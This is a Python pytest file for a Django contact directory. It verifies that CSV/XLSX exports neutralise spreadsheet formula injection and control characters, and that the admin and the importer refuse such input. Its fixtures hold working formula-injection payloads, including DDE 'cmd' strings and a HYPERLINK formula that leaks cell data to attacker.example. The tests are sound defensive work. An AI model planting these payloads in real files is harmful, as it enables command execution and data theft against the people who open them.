"""Hostile text cannot be turned against the people who open an export (issue 10, items 2 and 3).

A value a spreadsheet would run as a formula reaches every CSV/XLSX cell neutralised, a
control character no longer breaks the XLSX export, and the admin and the importer refuse
both at input.
"""
import csv
import io

import openpyxl
import pytest

from directory import exports, selectors, tabular
from directory.filters import DirectoryFilters
from directory.importing import contact_import_preview
from directory.models import Contact, ContactPhone
from portal.models import PortalSettings
from tests.directory.test_admin import EDIT, edit_data
from tests.directory.test_import import csv_file, row
from tests.factories import ContactFactory, country, fictional_number

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_export_rate")]

FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.org"
HYPERLINK_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


@pytest.fixture
def hostile_contact():
    """A contact written before the input checks existed (the factory skips form validation)."""
    contact = ContactFactory(
        external_id=HYPERLINK_ID,
        email=FORMULA_EMAIL,
        alternative_email="+1+cmd@example.org",
        person_name="@SUM(1+1)*cmd|' /C calc'!A0",
        position_title="-2+3+cmd|' /C calc'!A0",
        position_title_en="-2+3+cmd|' /C calc'!A0",
        availability="Mon\x0bFri 8:00–16:00",
        availability_en="Mon\x0bFri 8:00–16:00",
        phones=0,
    )
    ContactPhone.objects.create(contact=contact, number=fictional_number("LT", 5), label="=1+1", is_24_7=True)
    return contact


def exported_record(fmt: str, contact) -> tuple[dict, dict]:
    """({column: value}, {column: XLSX data type or None}) of the contact's row in an export."""
    # Read as the export view reads them: with the portal's freshness (the "overdue" column).
    tenant = PortalSettings.objects.get(site__hostname="bsr.localhost")
    contacts = selectors.with_details(Contact.objects.filter(pk=contact.pk).with_freshness(tenant))
    content, _content_type = exports.export(fmt, contacts, tenant=tenant, filters=DirectoryFilters())
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return dict(zip(rows[0], rows[1], strict=True)), {}
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, cells = list(sheet.iter_rows(max_row=2))
    columns = [cell.value for cell in header]
    return (
        {column: cell.value or "" for column, cell in zip(columns, cells, strict=True)},
        {column: cell.data_type for column, cell in zip(columns, cells, strict=True) if cell.value},
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_values_of_every_column_reach_the_export_neutralised(fmt, hostile_contact):
    record, _types = exported_record(fmt, hostile_contact)

    assert record["email"] == "'" + FORMULA_EMAIL
    assert record["alternative_email"] == "'+1+cmd@example.org"
    assert record["external_id"] == "'" + HYPERLINK_ID
    assert record["person_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert record["position_title"] == "'-2+3+cmd|' /C calc'!A0"
    assert record["phone_label"] == "'=1+1"
    # Nothing else of the row starts a formula either (the phone is checked on its own below).
    assert [column for column, value in record.items() if column != "phone" and value.startswith(("=", "+", "-", "@"))] == []


def test_no_cell_of_the_xlsx_export_is_a_formula(hostile_contact):
    _record, types = exported_record("xlsx", hostile_contact)

    assert set(types.values()) == {"s"}
    assert "email" in types and "external_id" in types


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_phone_still_reads_as_a_phone_number_in_the_export(fmt, hostile_contact):
    record, types = exported_record(fmt, hostile_contact)

    assert record["phone"] == fictional_number("LT", 5)
    assert record["phone"].startswith("+370")
    if fmt == "xlsx":
        assert types["phone"] == "s"  # text: the "+" and any leading digits stay as written


def test_a_control_character_in_a_note_no_longer_breaks_the_xlsx_export_for_everyone(get, hostile_contact):
    response = get("bsr", "/en/directory/export.xlsx?country=LT")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    availability = tabular.COLUMNS.index("availability")
    notes = [values[availability] for values in sheet.iter_rows(min_row=2, values_only=True)]
    assert "MonFri 8:00–16:00" in notes


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_behind_a_control_character_is_still_neutralised(fmt):
    contact = ContactFactory(person_name="\x0b=1+1", phones=1)

    record, _types = exported_record(fmt, contact)

    assert record["person_name"] == "'=1+1"


def test_an_xlsx_export_with_formula_like_values_imports_back_unchanged(bsr, admin_user):
    contact = ContactFactory(
        external_id="-17", position_title="=HYPERLINK(\"http://x\")", position_title_en="=HYPERLINK(\"http://x\")",
        person_name="@home desk", phones=1,
    )
    content, _content_type = exports.export(
        "xlsx", selectors.with_details(Contact.objects.filter(pk=contact.pk).with_freshness(bsr)), tenant=bsr,
        filters=DirectoryFilters(),
    )

    report = contact_import_preview(file_obj=content, filename="one.xlsx", user=admin_user)

    assert [str(problem) for problem in report.problems] == []
    assert [(row.contact_id, row.changes) for row in report.rows] == [(contact.pk, ())]


# --- refused at input ------------------------------------------------------------------------

@pytest.fixture
def lt_contact(admin_user):
    contact = ContactFactory(country=country("LT"), position_title="Safety test desk", position_title_en="Safety test desk")
    contact.save_revision(user=admin_user)
    return contact


def test_the_admin_refuses_an_email_that_a_spreadsheet_would_run(client, editor, lt_contact):
    client.force_login(editor("lt"))

    response = client.post(EDIT.format(pk=lt_contact.pk), edit_data(client, lt_contact, email=FORMULA_EMAIL))

    assert response.status_code == 200
    assert "may not start with “=”" in str(response.context["form"].errors["email"])
    assert Contact.objects.get(pk=lt_contact.pk).email == lt_contact.email


def test_the_admin_refuses_a_control_character_naming_it(client, editor, lt_contact):
    client.force_login(editor("lt"))
    data = edit_data(client, lt_contact, availability_en="Mon\x0bFri", **{"phones-0-label": "Duty\x00desk"})

    response = client.post(EDIT.format(pk=lt_contact.pk), data)

    assert response.status_code == 200
    assert "control character U+000B at position 4" in str(response.context["form"].errors["availability_en"])
    phone_errors = response.context["form"].formsets["phones"].forms[0].errors["label"]
    assert "control character U+0000 at position 5" in str(phone_errors)
    assert Contact.objects.get(pk=lt_contact.pk).availability == lt_contact.availability


def test_the_admin_still_accepts_line_breaks_in_an_organisations_address(client, editor, lt_contact):
    client.force_login(editor("lt"))
    organisation = lt_contact.organisation
    url = f"/admin/snippets/directory/organisation/edit/{organisation.pk}/"
    form = client.get(url).context["form"]
    data = {bound.html_name: bound.value() for bound in form if bound.value() not in (None, "")}
    data["address"] = "Gedimino pr. 1\r\nVilnius"

    response = client.post(url, data)

    assert response.status_code == 302
    organisation.refresh_from_db()
    assert organisation.address == "Gedimino pr. 1\r\nVilnius"


def test_the_admin_refuses_a_control_character_in_an_organisations_name(client, editor, lt_contact):
    client.force_login(editor("lt"))
    organisation = lt_contact.organisation
    url = f"/admin/snippets/directory/organisation/edit/{organisation.pk}/"
    form = client.get(url).context["form"]
    data = {bound.html_name: bound.value() for bound in form if bound.value() not in (None, "")}
    data["name_en"] = "Police\x1bDepartment"

    response = client.post(url, data)

    assert response.status_code == 200
    assert "control character U+001B at position 7" in str(response.context["form"].errors["name_en"])
    organisation.refresh_from_db()
    assert "\x1b" not in organisation.name


def test_the_importer_refuses_formula_emails_and_control_characters_by_row_and_column(admin_user):
    content = csv_file(
        row(email=FORMULA_EMAIL),
        row(email="ok@example.org", availability="Mon\x0bFri"),
        row(email="ok2@example.org", position_title="Duty\x00prosecutor"),
        row(email="ok3@example.org", alternative_email="@evil@example.org"),
    )

    report = contact_import_preview(file_obj=content, filename="hostile.csv", user=admin_user)

    messages = {(problem.row, problem.column): problem.message for problem in report.problems}
    assert set(messages) == {(2, "email"), (3, "availability"), (4, "position_title"), (5, "alternative_email")}
    assert "may not start with “=”" in messages[(2, "email")]
    assert "U+000B" in messages[(3, "availability")]
    assert "U+0000" in messages[(4, "position_title")]
    assert report.counts["rejected"] == 4
